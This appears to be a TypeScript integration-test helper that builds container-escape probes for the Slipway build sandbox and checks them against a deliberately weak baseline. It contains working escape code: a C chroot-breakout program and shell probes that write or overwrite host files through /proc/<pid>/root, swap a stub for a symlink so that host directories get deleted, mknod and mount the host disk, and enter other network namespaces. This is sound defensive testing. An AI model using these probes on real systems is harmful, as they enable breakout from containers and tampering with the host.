// Escape probes for the RUN sandbox (test/integration/run-escape.test.ts): small busybox shell scripts and one
// static C program that, if they get out of the container, write a marker file into a host directory (an
// absolute host path). The same probe runs inside Slipway's sandbox (runInSandbox) and, as a baseline, in a
// weak sandbox made here without Slipway (unshare + chroot into the same busybox root filesystem, with the
// host's /proc bound in), where it must escape: a probe that escapes nothing proves nothing.
//
// Shared by the test (as root) and by test/support/escape-probe-runner.ts (a subprocess as an unprivileged
// user, for Slipway's rootless mode).
import { execFile, spawn } from 'node:child_process';
import { createReadStream, existsSync, readFileSync } from 'node:fs';
import { chmod, copyFile, mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { join, relative } from 'node:path';
import { promisify } from 'node:util';
import { createLayer, type LayerEntry } from '../../src/builder/layer/index.js';
import { LayerDirs, type LayerDir } from '../../src/builder/run/layer-dirs.js';
import { findOciRuntime } from '../../src/builder/run/oci-runtime.js';
import { runInSandbox, type NetworkMode, type SandboxMount } from '../../src/builder/run/sandbox.js';
import type { Descriptor } from '../../src/oci/index.js';
import type { ImageStore } from '../../src/store/image-store.js';

const execFileAsync = promisify(execFile);

export const BUSYBOX = '/bin/busybox';
/** The applets the probes use; all of busybox's are linked. */
const NEEDED_APPLETS = ['sh', 'nc', 'nsenter', 'chroot', 'mknod', 'mount', 'unshare', 'grep', 'timeout', 'mkdir', 'cat'];
/** Where the chroot-escape program is in the probe root filesystem. */
export const CHROOT_ESCAPE_BIN = '/bin/chroot-escape';

/** Throws a clear message naming what to install when a tool the probes need is missing. */
export async function requireProbeTools(): Promise<string[]> {
  if (!existsSync(BUSYBOX)) throw new Error(`the escape probes need ${BUSYBOX}: install busybox-static (apt-get install -y busybox-static)`);
  const { stdout } = await execFileAsync(BUSYBOX, ['--list']);
  const applets = stdout.split('\n').map((s) => s.trim()).filter((s) => s !== '' && s !== 'busybox' && !s.includes('/'));
  const missing = NEEDED_APPLETS.filter((a) => !applets.includes(a));
  if (missing.length > 0) throw new Error(`${BUSYBOX} lacks the applets ${missing.join(', ')}: install Debian's busybox-static`);
  for (const [bin, pkg] of [['/usr/bin/unshare', 'util-linux'], ['/usr/bin/setpriv', 'util-linux'], ['/usr/bin/slirp4netns', 'slirp4netns']]) {
    if (!existsSync(bin!)) throw new Error(`the escape probes need ${bin}: install ${pkg} (apt-get install -y ${pkg}, or test/setup/install-deps.sh)`);
  }
  findOciRuntime(undefined);
  return applets;
}

// ---------------------------------------------------------------------------------------------------------
// The classic chroot escape, as a static C program (compiled at test time).

const CHROOT_ESCAPE_C = String.raw`
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* argv[1]: an absolute host path to create. chroot into a fresh subdirectory without chdir into it, so the
   working directory is outside the new root; climb 64 times; chroot(".") there; write the marker. */
int main(int argc, char **argv) {
  if (argc != 2) { fprintf(stderr, "usage: chroot-escape MARKER\n"); return 2; }
  char dir[] = "/tmp/chroot-escape-XXXXXX";
  if (mkdtemp(dir) == NULL) { printf("chroot-escape: mkdtemp: %s\n", strerror(errno)); return 1; }
  if (chdir("/") != 0) { printf("chroot-escape: chdir /: %s\n", strerror(errno)); return 1; }
  if (chroot(dir) != 0) { printf("chroot-escape: chroot subdir: %s\n", strerror(errno)); return 1; }
  for (int i = 0; i < 64; i++) if (chdir("..") != 0) { printf("chroot-escape: chdir ..: %s\n", strerror(errno)); return 1; }
  if (chroot(".") != 0) { printf("chroot-escape: chroot .: %s\n", strerror(errno)); return 1; }
  int fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) { printf("chroot-escape: open %s: %s\n", argv[1], strerror(errno)); return 1; }
  if (write(fd, "x\n", 2) != 2) { printf("chroot-escape: write: %s\n", strerror(errno)); return 1; }
  close(fd);
  printf("chroot-escape: wrote %s\n", argv[1]);
  return 0;
}
`;

/** Compiles the chroot-escape program (static) into `dir`; returns its path. */
export async function compileChrootEscape(dir: string): Promise<string> {
  const source = join(dir, 'chroot-escape.c');
  const out = join(dir, 'chroot-escape');
  await writeFile(source, CHROOT_ESCAPE_C);
  try {
    await execFileAsync('gcc', ['-static', '-O2', '-o', out, source]);
  } catch (error) {
    const e = error as NodeJS.ErrnoException & { stderr?: string };
    if (e.code === 'ENOENT') throw new Error('the chroot-escape probe is a static C program: install gcc and libc6-dev (apt-get install -y gcc libc6-dev)');
    throw new Error(`gcc -static failed (install gcc and libc6-dev: apt-get install -y gcc libc6-dev): ${e.stderr?.trim() || e.message}`);
  }
  await chmod(out, 0o755);
  return out;
}

// ---------------------------------------------------------------------------------------------------------
// The probes.

export interface HostDevice {
  major: number;
  minor: number;
  fstype: string;
  /** The marker directory's path inside that filesystem (from its root). */
  pathInFs: string;
}

/** The block device and filesystem type holding `path` on the host, from /proc/self/mountinfo. */
export function hostDeviceOf(path: string): HostDevice {
  let best: { mountPoint: string; root: string; major: number; minor: number; fstype: string } | undefined;
  for (const line of readFileSync('/proc/self/mountinfo', 'utf8').split('\n')) {
    if (line === '') continue;
    const [left, right] = line.split(' - ');
    const f = left!.split(' ');
    const mountPoint = f[4]!.replace(/\\040/g, ' ');
    const [major, minor] = f[2]!.split(':').map(Number);
    const inside = path === mountPoint || path.startsWith(mountPoint === '/' ? '/' : `${mountPoint}/`);
    if (inside && (best === undefined || mountPoint.length >= best.mountPoint.length)) {
      best = { mountPoint, root: f[3]!, major: major!, minor: minor!, fstype: right!.split(' ')[0]! };
    }
  }
  if (best === undefined) throw new Error(`no mount holds ${path}`);
  if (best.major === 0) throw new Error(`${path} is on ${best.fstype} (device 0:${best.minor}), not on a block device: the mknod probe needs its marker directory on a disk filesystem`);
  return { major: best.major, minor: best.minor, fstype: best.fstype, pathInFs: join(best.root, relative(best.mountPoint, path)) };
}

/** SLIPWAY_ESCAPE_LOG=1: every probe's output on stderr (long outputs shortened). */
function log(what: string, output: string): void {
  if (!process.env['SLIPWAY_ESCAPE_LOG']) return;
  const lines = output.split('\n');
  const shown = lines.length > 24 ? [...lines.slice(0, 10), `... (${lines.length - 20} more lines)`, ...lines.slice(-10)] : lines;
  process.stderr.write(`--- ${what}\n${shown.join('\n')}\n`);
}

const q = (word: string): string => `'${word.replace(/'/g, `'\\''`)}'`;

/** CapEff and Seccomp of the probe's own process. */
export function statusProbe(): string {
  return "grep -E '^(CapEff|Seccomp):' /proc/self/status";
}

/** Whether the output of statusProbe shows CAP_SYS_ADMIN (bit 21) or no seccomp filter (mode other than 2). */
export function parseStatus(output: string): { capEff: bigint; sysAdmin: boolean; seccomp: number } {
  const cap = /^CapEff:\s*([0-9a-f]+)$/m.exec(output);
  const sec = /^Seccomp:\s*(\d+)$/m.exec(output);
  if (cap === null || sec === null) throw new Error(`no CapEff/Seccomp lines in:\n${output}`);
  const capEff = BigInt(`0x${cap[1]}`);
  return { capEff, sysAdmin: (capEff & (1n << 21n)) !== 0n, seccomp: Number(sec[1]) };
}

/**
 * Writes through /proc/<pid>/root of every visible process (and /proc/1 first), and chroots into each of them:
 * markers `proc-root-<pid>` and `chroot-<pid>` in `markerDir`. With `victim` (an existing host file the
 * invoking user owns), also tries to overwrite it through each /proc/<pid>/root.
 */
export function procRootProbe(markerDir: string, victim?: string): string {
  return [
    `M=${q(markerDir)}`,
    'echo x > "/proc/1/root$M/proc-root-1" 2>/dev/null && echo "wrote via /proc/1/root"',
    'for p in /proc/[0-9]*; do',
    '  n=${p#/proc/}',
    '  echo x > "$p/root$M/proc-root-$n" 2>/dev/null && echo "wrote via /proc/$n/root"',
    ...(victim !== undefined ? [`  echo pwned > "$p/root"${q(victim)} 2>/dev/null && echo "overwrote the victim via /proc/$n/root"`] : []),
    '  chroot "$p/root" sh -c "echo x > \'$M/chroot-$n\'" 2>/dev/null && echo "wrote via chroot /proc/$n/root"',
    'done',
    'true',
  ].join('\n');
}

/** The mount target of stubProbe: /a and /a/etc are not in the probe image, so the sandbox makes them (stubs). */
export const STUB_TARGET = '/a/etc/victimdir';

/**
 * Moves the stub directory /a (holding the mount point) away and puts a symlink to the host directory `victim`
 * in its place: when the sandbox removes its stubs from the upper directory afterwards (upper/a/etc/victimdir,
 * upper/a/etc), a removal that follows the symlink deletes `victim`/etc on the host.
 */
export function stubProbe(victim: string): string {
  return `mv /a /a.old && ln -s ${q(victim)} /a && echo "swapped /a for a symlink to the host"; true`;
}

export function chrootEscapeProbe(markerDir: string): string {
  return `${CHROOT_ESCAPE_BIN} ${q(join(markerDir, 'chroot-escape'))}; true`;
}

/** mknod the host's disk, mount it, write the marker through it; then try to mount proc, sysfs, tmpfs. */
export function mknodProbe(device: HostDevice): string {
  return [
    'D=/tmp/hostdisk-$$; F=/tmp/hostfs-$$',
    `mknod "$D" b ${device.major} ${device.minor} 2>&1 && echo mknod:ok || echo mknod:fail`,
    'mkdir -p "$F"',
    `mount -t ${device.fstype} "$D" "$F" 2>&1 && echo mount-disk:ok || echo mount-disk:fail`,
    `echo x > "$F"${q(join(device.pathInFs, 'mknod'))} 2>/dev/null && echo "wrote through the disk"`,
    // Raw access to the disk (the device cgroup must refuse to open the node even when mknod worked).
    'head -c 4096 "$D" > /dev/null 2>&1 && echo open-disk:ok || echo open-disk:fail',
    'for t in proc sysfs tmpfs; do mkdir -p /tmp/m-$t-$$; mount -t $t $t /tmp/m-$t-$$ 2>&1 && echo mount-$t:ok || echo mount-$t:fail; done',
    'true',
  ].join('\n');
}

/**
 * Connects to the marker server on port `port` directly (127.0.0.1 and slirp's 10.0.2.2) and from the network
 * namespace of every visible process (/proc/<pid>/ns/net and /proc/1/root/proc/<pid>/ns/net), sending a line
 * that names the way; stops at the first connection.
 */
export function networkProbe(port: number): string {
  return [
    `P=${port}`,
    'try() { echo "$1" | timeout 4 nc -w 2 "$2" $P >/dev/null 2>&1 && echo "connected: $1" && exit 0; }',
    'try direct-127.0.0.1 127.0.0.1',
    'try direct-10.0.2.2 10.0.2.2',
    'for p in /proc/[0-9]*; do',
    '  n=${p#/proc/}',
    '  for ns in "$p/ns/net" "/proc/1/root$p/ns/net"; do',
    '    [ -e "$ns" ] || continue',
    '    w=$(echo "nsenter-$ns" | tr / _)',
    '    nsenter --net="$ns" sh -c "echo $w | timeout 4 nc -w 2 127.0.0.1 $P" >/dev/null 2>&1 && echo "connected: $w" && exit 0',
    '  done',
    'done',
    'echo "no connection"',
  ].join('\n');
}

export interface MarkerServer {
  port: number;
  close(): Promise<void>;
}

/** A TCP server on the host's 127.0.0.1 that writes `markerDir/net-connection` on every connection (and `net-<line>`). */
export async function startMarkerServer(markerDir: string): Promise<MarkerServer> {
  const { writeFileSync } = await import('node:fs');
  const sockets = new Set<import('node:net').Socket>();
  const server: Server = createServer((socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
    socket.on('error', () => undefined);
    writeFileSync(join(markerDir, 'net-connection'), 'x\n');
    let line = '';
    socket.on('data', (d: Buffer) => {
      line += d.toString();
      if (line.includes('\n')) {
        writeFileSync(join(markerDir, `net-${line.split('\n')[0]!.replace(/[^A-Za-z0-9._-]/g, '_').slice(0, 80)}`), 'x\n');
        socket.end();
      }
    });
    setTimeout(() => socket.destroy(), 1000).unref();
  });
  await new Promise<void>((resolve, reject) => { server.once('error', reject); server.listen(0, '127.0.0.1', resolve); });
  return {
    port: (server.address() as AddressInfo).port,
    close: () => new Promise<void>((resolve) => { for (const s of sockets) s.destroy(); server.close(() => resolve()); }),
  };
}

// ---------------------------------------------------------------------------------------------------------
// The probe root filesystem: busybox (all applets) and the chroot-escape program.

async function appletNames(): Promise<string[]> {
  const { stdout } = await execFileAsync(BUSYBOX, ['--list']);
  return stdout.split('\n').map((s) => s.trim()).filter((s) => s !== '' && s !== 'busybox' && !s.includes('/'));
}

/** The probe root filesystem as a plain host directory (for the weak baseline sandbox). */
export async function writeProbeRootfs(root: string, chrootEscape: string): Promise<void> {
  for (const d of ['bin', 'etc', 'proc', 'dev', 'sys', 'm']) await mkdir(join(root, d), { recursive: true, mode: 0o755 });
  await mkdir(join(root, 'tmp'), { recursive: true });
  await chmod(join(root, 'tmp'), 0o1777);
  await chmod(root, 0o755);
  await copyFile(BUSYBOX, join(root, 'bin/busybox'));
  await chmod(join(root, 'bin/busybox'), 0o755);
  await copyFile(chrootEscape, join(root, CHROOT_ESCAPE_BIN));
  await chmod(join(root, CHROOT_ESCAPE_BIN), 0o755);
  for (const a of await appletNames()) await symlink('busybox', join(root, 'bin', a));
  await writeFile(join(root, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/sh\n');
  await writeFile(join(root, 'dev/null'), '');
}

/** The probe root filesystem as one layer in a LayerDirs cache under `cacheRoot` (blobs under `tmpDir`). */
export async function probeLayerStack(cacheRoot: string, tmpDir: string, chrootEscape: string): Promise<{ layers: LayerDirs; stack: LayerDir[] }> {
  const entry = (path: string, src: string, size: number): LayerEntry => ({ path, type: 'file', mode: 0o755, uid: 0, gid: 0, size, open: async () => createReadStream(src) });
  const dir = (path: string, mode = 0o755): LayerEntry => ({ path, type: 'dir', mode, uid: 0, gid: 0 });
  const passwd = 'root:x:0:0:root:/root:/bin/sh\n';
  const entries: LayerEntry[] = [
    dir('bin'), dir('etc'), dir('tmp', 0o1777), dir('proc'), dir('dev'), dir('sys'),
    entry('bin/busybox', BUSYBOX, (await readFile(BUSYBOX)).length),
    entry(CHROOT_ESCAPE_BIN.slice(1), chrootEscape, (await readFile(chrootEscape)).length),
    ...(await appletNames()).map((a): LayerEntry => ({ path: `bin/${a}`, type: 'symlink', mode: 0o777, uid: 0, gid: 0, linkTarget: 'busybox' })),
    { path: 'etc/passwd', type: 'file', mode: 0o644, uid: 0, gid: 0, size: passwd.length, open: async () => (await import('node:stream')).Readable.from([Buffer.from(passwd)]) },
  ];
  const built = await createLayer(entries, { tmpDir });
  const descriptor: Descriptor = { mediaType: built.mediaType, digest: built.digest, size: built.size };
  const store = { readBlob: async () => createReadStream(built.path) } as unknown as ImageStore;
  const layers = new LayerDirs({ root: cacheRoot });
  const stack = await layers.stack(async () => store, [descriptor], [built.diffId]);
  return { layers, stack };
}

// ---------------------------------------------------------------------------------------------------------
// Running a probe in Slipway's sandbox.

export interface ProbeRequest {
  name: string;
  script: string;
  network: NetworkMode;
  /** A secret (kind 'secret') mounted at this target: the value is given here, never in the script. */
  secret?: { target: string; value: string };
  /** Directories searched for the secret's value while the command sleeps (after it says SECRET-READ) and after it. */
  scanDirs?: string[];
  /** A tmpfs mounted at this target (whose parents the image lacks: the sandbox makes them as stubs). */
  tmpfsTarget?: string;
}

export interface ProbeResult {
  name: string;
  exitCode: number;
  output: string;
  /** Files under scanDirs that held the secret's value while the command ran, then after it. */
  secretDuring?: string[];
  secretAfter?: string[];
  /** The sandbox's scratch directory (removed afterwards). */
  dir?: string;
}

/** Files under `dirs` (recursively, not following symlinks) whose content contains `value`. */
export async function filesContaining(dirs: string[], value: string): Promise<string[]> {
  const found: string[] = [];
  for (const d of dirs) {
    if (!existsSync(d)) continue;
    // grep exits 1 when nothing matches, 2 when some file was unreadable (-s: silently; the matches still print).
    const { stdout } = await execFileAsync('grep', ['-rlsF', '--', value, d], { maxBuffer: 16 * 1024 * 1024 }).catch((e: { stdout?: string; code?: number }) => {
      if (e.code === 1 || e.code === 2) return { stdout: e.stdout ?? '' };
      throw e;
    });
    found.push(...stdout.split('\n').filter((l) => l !== ''));
  }
  return found;
}

/** Runs one probe with runInSandbox (as the current user: rootless unless root). */
export async function runProbe(layers: LayerDirs, stack: readonly LayerDir[], probe: ProbeRequest): Promise<ProbeResult> {
  let output = '';
  const mounts: SandboxMount[] = [
    ...(probe.secret ? [{ kind: 'secret', data: probe.secret.value, mode: 0o400, uid: 0, gid: 0, target: probe.secret.target, readonly: true } as const] : []),
    ...(probe.tmpfsTarget ? [{ kind: 'tmpfs', target: probe.tmpfsTarget, readonly: false } as const] : []),
  ];
  let scanning: Promise<string[]> | undefined;
  const result = await runInSandbox<undefined>({
    layers, stack,
    command: { argv: ['/bin/sh', '-c', probe.script], env: ['PATH=/bin'], workdir: '/', uid: 0, gid: 0, groups: [], network: probe.network, mounts },
    output: (c) => {
      output += c.toString();
      // The command says when it holds the secret, then sleeps while the disk is searched for it.
      if (probe.secret && scanning === undefined && output.includes('SECRET-READ')) scanning = filesContaining(probe.scanDirs ?? [], probe.secret.value);
    },
    inspect: async () => undefined,
    timeoutMs: 60_000,
    runtime: () => findOciRuntime(undefined),
    note: () => undefined,
  });
  const res: ProbeResult = { name: probe.name, exitCode: result.exitCode, output, dir: result.dir };
  log(`slipway${process.getuid?.() === 0 ? '' : ' (rootless)'} ${probe.name} (exit ${result.exitCode})`, output);
  if (probe.secret) {
    res.secretDuring = scanning ? await scanning : ['(the command never said SECRET-READ)'];
    res.secretAfter = await filesContaining([...(probe.scanDirs ?? []), result.dir], probe.secret.value);
  }
  const { removeTree } = await import('../../src/builder/run/privileges.js');
  await removeTree(result.dir);
  return res;
}

// ---------------------------------------------------------------------------------------------------------
// The weak baseline sandbox (no Slipway): unshare + the host's /proc bound in + chroot into the probe rootfs.

export interface BaselineOptions {
  /** The probe root filesystem (writeProbeRootfs). */
  rootfs: string;
  /** Run as this unprivileged user, in `unshare --user --map-root-user --mount` (rootless), instead of root. */
  user?: { uid: number; gid: number };
  /** Own network namespace (root only). */
  net?: boolean;
  /** A host directory bound at /m in the rootfs before the chroot (a naive bind mount that follows symlinks). */
  bindAtM?: string;
}

/**
 * Runs `script` in the weak sandbox; returns its output. The outer shell stays outside the chroot (as the
 * process of a builder would), and the probe runs as its child.
 */
export async function runBaseline(script: string, options: BaselineOptions): Promise<string> {
  const root = q(options.rootfs);
  const setup = [
    'set -e',
    `mount --rbind /proc ${root}/proc`,
    `mount --bind /dev/null ${root}/dev/null`,
    ...(options.bindAtM !== undefined ? [`mount --bind ${q(options.bindAtM)} ${root}/m`] : []),
    'set +e',
    'echo BASELINE-STARTED',
    `chroot ${root} /bin/sh -c ${q(script)}`,
  ].join('\n');
  const unshare = options.user
    ? ['/usr/bin/setpriv', `--reuid=${options.user.uid}`, `--regid=${options.user.gid}`, '--clear-groups', '/usr/bin/unshare', '--user', '--map-root-user', '--mount', '--propagation', 'private']
    : ['/usr/bin/unshare', '--mount', '--pid', '--fork', '--propagation', 'private', ...(options.net ? ['--net'] : [])];
  return new Promise<string>((resolve, reject) => {
    const child = spawn(unshare[0]!, [...unshare.slice(1), '/bin/sh', '-c', setup], { stdio: ['ignore', 'pipe', 'pipe'], env: { PATH: '/usr/sbin:/usr/bin:/sbin:/bin' } });
    let out = '';
    child.stdout.on('data', (d: Buffer) => { out += d.toString(); });
    child.stderr.on('data', (d: Buffer) => { out += d.toString(); });
    const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
    child.on('error', reject);
    child.on('close', (code) => {
      clearTimeout(timer);
      if (!out.includes('BASELINE-STARTED')) reject(new Error(`the baseline sandbox (${unshare.join(' ')}) did not start (exit ${code}): ${out}`));
      else {
        log(`baseline${options.user ? ' (rootless)' : ''}${options.net ? ' --net' : ''}`, out);
        resolve(out.replace('BASELINE-STARTED\n', ''));
      }
    });
  });
}
